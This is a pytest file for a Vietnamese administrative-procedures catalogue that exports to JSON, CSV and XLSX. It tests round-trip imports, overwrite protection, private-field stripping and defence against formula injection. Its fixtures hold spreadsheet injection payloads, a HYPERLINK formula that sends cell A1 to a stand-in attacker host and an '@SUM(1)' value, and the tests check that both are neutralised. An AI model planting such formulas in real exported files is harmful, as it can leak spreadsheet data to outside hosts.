"""The procedures out again: tables that no spreadsheet runs, and that an import reads back unchanged."""

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator
from python_calamine import CalamineWorkbook

from cchc.cache import Cache
from cchc.procedures import cells
from cchc.publish import procedures_data
from tests import exports
from tests.conftest import PROCEDURE, Project
from tests.exports import portal
from tests.test_cli import run
from tests.test_procedures_import import files, take

FORMULA = '=HYPERLINK("https://ke-gian.example/"&A1;"bấm")'
ABOLISHED = PROCEDURE.replace("1.001193", "1.001999").replace(
    "[{number: 163/QĐ-BTP}]", "[{number: 9/QĐ-BTP, date: 2026-01-05, action: abolished}]"
)
LOCAL = PROCEDURE.replace("1.001193", "1.001888").replace(
    "fee: Miễn phí", "fee: Miễn phí\nfee_note: Có nơi thu.\nlocal_fee: {amount: 8.000 đồng, document: 12/2025/NQ-HĐND}"
)


@pytest.fixture
def filled(project: Project, tmp_path: Path) -> Project:
    """Procedures of the portal, one whose name is a formula, one with a local fee, one that was abolished."""
    many = [
        portal(),
        portal("1.900002", ten_thu_tuc=FORMULA, linh_vuc="@SUM(1)", co_quan_thuc_hien="Sở A, Cục B"),
        portal("1.900003", linh_vuc="Đất đai", ket_qua_xu_ly="- Giấy\n+ Sổ"),
    ]
    take(project, exports.lines(tmp_path / "cong.jsonl", many))
    project.write("docs/thu-tuc/1.001193.md", PROCEDURE.replace("[Ủy ban nhân dân cấp xã]", '["Ban A, Ban B"]'))
    project.write("docs/thu-tuc/1.001888.md", LOCAL)
    project.write("docs/thu-tuc/1.001999.md", ABOLISHED)
    assert not project.site().rejected
    return project


@pytest.mark.parametrize("ending", ["json", "csv", "xlsx"])
def test_what_is_exported_is_imported_unchanged(filled: Project, tmp_path: Path, ending: str) -> None:
    file = tmp_path / f"danh-muc.{ending}"
    assert run(filled, "procedures", "export", str(file)).exit_code == 0
    before = files(filled)
    result = take(filled, file, "--yes")
    assert result.exit_code == 0, result.output
    assert "0 thủ tục mới, 0 thay đổi, 6 không đổi, 0 không còn trong tệp, 0 dòng bị loại" in result.output
    assert files(filled) == before


def test_open_data_makes_the_same_procedures_elsewhere(filled: Project, tmp_path: Path) -> None:
    file = tmp_path / "danh-muc.json"
    run(filled, "procedures", "export", str(file))
    here = json.loads(file.read_text("utf-8"))
    for path in (filled.root / "docs/thu-tuc").iterdir():
        path.unlink()
    assert take(filled, file).exit_code == 0
    run(filled, "procedures", "export", "--yes", str(file))
    there = json.loads(file.read_text("utf-8"))
    own = ("synced_at", "updated", "owner_unit", "local_fee")
    for item in (*here["procedures"], *there["procedures"]):
        for key in own:
            item.pop(key)
    assert there == here


def test_a_file_that_is_there_is_not_overwritten_unasked(filled: Project, tmp_path: Path) -> None:
    file = tmp_path / "a.csv"
    file.write_text("của tôi", "utf-8")
    assert run(filled, "procedures", "export", str(file)).exit_code == 2
    assert file.read_text("utf-8") == "của tôi"
    assert run(filled, "procedures", "export", str(tmp_path / "a.docx")).exit_code == 2
    done = run(filled, "procedures", "export", "--yes", "--field", "dat dai", str(file))
    assert "Đã ghi 1 thủ tục" in done.output


def test_no_cell_of_a_table_is_a_formula(filled: Project) -> None:
    site = filled.site()
    table = procedures_data.as_csv(site, site.procedures).decode("utf-8-sig")
    assert "'=HYPERLINK" in table
    cells_ = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
    assert not [cell for cell in cells_ if cell[:1] in tuple("=+-@\t\r\n")]
    data = procedures_data.as_xlsx(site, site.procedures)
    path = filled.root / "a.xlsx"
    path.write_bytes(data)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        texts = archive.read("xl/sharedStrings.xml").decode()
        names = archive.namelist()
    assert "=HYPERLINK(" in texts
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
    assert re.findall(r'<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="(\w+)")?><v>', sheet) == ["s"] * sheet.count("<v>")


def test_the_annex_is_laid_out_as_an_annex_and_its_bytes_never_vary(filled: Project) -> None:
    site = filled.site()
    data = procedures_data.as_xlsx(site, site.procedures)
    assert data == procedures_data.as_xlsx(filled.site(), filled.site().procedures)
    path = filled.root / "a.xlsx"
    path.write_bytes(data)
    rows = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    first = [row[0] for row in rows]
    assert rows[0][0] == "DANH MỤC THỦ TỤC HÀNH CHÍNH"
    assert "5 thủ tục" in str(rows[2][0])
    assert rows[4][:3] == ["STT", "Mã thủ tục", "Tên thủ tục hành chính"]
    assert [cell for cell in first if "Lĩnh vực" in str(cell)] == [
        "I. Lĩnh vực: @SUM(1)",
        "II. Lĩnh vực: Đất đai",
        "III. Lĩnh vực: Hộ tịch",
    ]
    assert [cell for cell in first if str(cell).isdigit()] == ["1", "2", "3", "4", "5", "6"]
    assert first[-2:] == ["Thủ tục hành chính bị bãi bỏ", "6"]
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        book = archive.read("xl/workbook.xml").decode()
    assert "Print_Titles" in book
    assert "$5:$5" in book
    assert 'orientation="landscape"' in sheet
    assert 'fitToHeight="0"' in sheet
    assert re.search(r'<col min="3" max="3" width="4\d', sheet)


def test_published_data_keep_what_is_between_editors(filled: Project) -> None:
    filled.write(
        "docs/thu-tuc/1.001193.md",
        PROCEDURE.replace("updated:", "notes: Riêng với nhau\nreviewed_by: Trần Thị Bình\nkeep: [steps]\nupdated:"),
    )
    assets = {item.url: item.content for item in procedures_data.procedure_data(filled.site(), Cache(None))}
    assert sorted(assets) == [f"data/procedures.{end}" for end in ("csv", "json", "schema.json", "xlsx")]
    text = assets["data/procedures.json"].decode()
    assert not re.search('Riêng với nhau|Trần Thị Bình|"keep"', text)
    validator = Draft202012Validator(json.loads(assets["data/procedures.schema.json"]))
    assert list(validator.iter_errors(json.loads(text))) == []
    assert assets["data/procedures.csv"].startswith(b"\xef\xbb\xbf")


def test_names_in_one_cell_are_read_back_as_they_were() -> None:
    for names in [("A",), ("Ban A, Ban B",), ("A", "B, C"), ("Tổ chức (gồm D, E)", "F"), ()]:
        assert cells.names(procedures_data.listed(names)) == names
